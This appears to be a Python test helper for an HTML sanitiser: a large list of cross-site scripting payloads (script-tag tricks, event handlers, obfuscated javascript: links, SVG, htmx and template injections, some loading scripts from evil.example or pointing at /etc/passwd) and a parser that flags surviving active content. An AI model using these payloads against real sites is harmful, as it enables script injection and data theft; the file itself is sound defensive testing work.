"""Ways to get a script into a page, and a reader that finds one in a finished page."""

import re
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

_RUN = "alert(1)"
_TAGS = (
    "<script>{run}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{run}</scr</script>ipt>",
    '<script\x0c>{run}</script>', '<script/x>{run}</script>', '</title><script>{run}</script>',
    '<<script>{run}//<</script>',
    '</textarea><script>{run}</script>', '</style><script>{run}</script>', '--><script>{run}</script>',
    ']]><script>{run}</script>',
    "<svg><script>{run}</script></svg>", "<svg/onload={run}>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    '<svg><style><img src=x onerror={run}></style>',
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<math href='javascript:{run}'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<template><img src=x onerror={run}></template>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src=javascript:{run}></iframe>",
    "<object data='data:text/html,<script>{run}</script>'></object>", "<embed src=javascript:{run}>",
    "<base href=javascript:{run}//>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    '<link rel=stylesheet href=javascript:{run}>', '<link rel=import href=//evil.example/>',
    "<style>@import '//evil.example';</style>",
    "<form action=javascript:{run}><button>x</button></form>", "<button formaction=javascript:{run}>x</button>",
    "<isindex action=javascript:{run} type=image>", "<frameset onload={run}>", "<table background=javascript:{run}>",
    "<div style='background:url(javascript:{run})'>", '<div style=width:expression({run})>',
    "<x style='animation:x' onanimationstart={run}>",
    '<xss contenteditable onblur={run} autofocus tabindex=0>x</xss>', '<dialog open onclose={run}>',
    '<portal src=//evil.example>',
    "<img src='x' srcset='//evil.example/p.png 2x'>", '<video poster=//evil.example/p.png>',
    '<audio src=//evil.example/a.ogg autoplay>',
    "<script type=module>import '//evil.example/x.js'</script>", '<script>/*',
    '<!--[if gte IE 4]><script>{run}</script><![endif]-->',
    "<?xml-stylesheet href='javascript:{run}'?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<div hx-get=/desk/ hx-trigger=load hx-on:load='{run}'>x</div>",
    "<div data-hx-on--after-request='{run}' hx-get='/' hx-trigger='load'>",
    "<div hx-vals='js:{{x:{run}}}' hx-get=/ hx-trigger=load>",
    "<a href='x' data-confirm='<img src=x onerror={run}>'>x</a>",
    '<input autofocus onfocus={run}>', '<select autofocus onfocus={run}>', '<marquee onstart={run}>',
    '<details open ontoggle={run}>',
)  # fmt: skip
_EVENTS = (
    'onerror', 'onload', 'ONERROR', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onbeforetoggle',
    'onbegin',
    'onanimationend', 'onpageshow', 'onscroll', 'onwheel', 'onsecuritypolicyviolation',
    'oncontentvisibilityautostatechange',
)  # fmt: skip
_AROUND = ("<img src=x {event}={run}>", '"{event}={run} x="', "' {event}={run} x='", "<img/src=`x`{event}={run}>",
           "<a href=x {event}\n=\n{run} autofocus>x</a>", '"><img src=x {event}={run}>')  # fmt: skip
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}",
    " javascript:{run}", "javascript\u200b:{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}",
    "javascript&colon;{run}", "java&Tab;script:{run}", "java&NewLine;script&colon;{run}", "javascript://x/%0a{run}",
    'vbscript:{run}', 'data:text/html,<script>{run}</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload={run}>', 'file:///etc/passwd', 'blob:http://testserver/x',
    'feed:javascript:{run}',
    'view-source:javascript:{run}', 'jar:javascript:{run}', '%6Aavascript:{run}',
    'javascript:{run}//https://ok.example',
)  # fmt: skip
_LINKS = ("[x]({link})", "[x](<{link}>)", "<{link}>", "![x]({link})", "[x]: {link}\n\n[x]", '<a href="{link}">x</a>')

PAYLOADS = list(
    dict.fromkeys(
        [
            *(tag.format(run=_RUN) for tag in _TAGS),
            *(shape.format(event=event, run=_RUN) for event, shape in product(_EVENTS, _AROUND)),
            *(shape.format(link=scheme.format(run=_RUN)) for scheme, shape in product(_SCHEMES, _LINKS)),
        ]
    )
)
_OWN_SCHEMES = {"", "http", "https", "mailto", "tel"}
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background", "cite")


class Reader(HTMLParser):
    """Notes what in a page would run, load or send something that is not ours."""

    def __init__(self, own: tuple[str, ...]) -> None:
        super().__init__(convert_charrefs=True)
        self.own, self.found = own, []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in ("iframe", "object", "embed", "base", "frameset", "portal", "marquee", "isindex", "math"):
            self.found.append(f"<{tag}>")
        if (
            tag == "script"
            and not given.get("src", "").startswith("/static/")
            and given.get("type") != "application/json"
        ):
            self.found.append(f"<script {given}>")
        if tag == "style" or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag} {given}>")
        for name, value in given.items():
            if name.startswith(("on", "hx-on", "data-hx-on")) or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}={value[:60]}")
            if name.startswith("hx-") and ("js:" in value or "javascript:" in value):
                self.found.append(f"{tag} {name}={value[:60]}")
            if name in _ADDRESSES:
                self._address(tag, name, value)

    def _address(self, tag: str, name: str, value: str) -> None:
        plain = "".join(c for c in value if c > " " and c.isprintable()).replace("\\", "/")
        found = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", plain)
        scheme = found[1].lower() if found else ""
        loads = tag not in ("a",)
        host = urlsplit(plain if "//" in plain else "").netloc
        if scheme not in _OWN_SCHEMES and not (tag == "img" and plain.startswith("data:image/")):
            self.found.append(f"{tag} {name}={value[:80]}")
        if loads and host and host not in self.own:
            self.found.append(f"{tag} loads {value[:80]}")


def dangers(page: str, own: tuple[str, ...] = ("testserver", "files.testserver")) -> list[str]:
    """What in the page is not ours and acts."""
    reader = Reader(own)
    reader.feed(page)
    reader.close()
    return reader.found
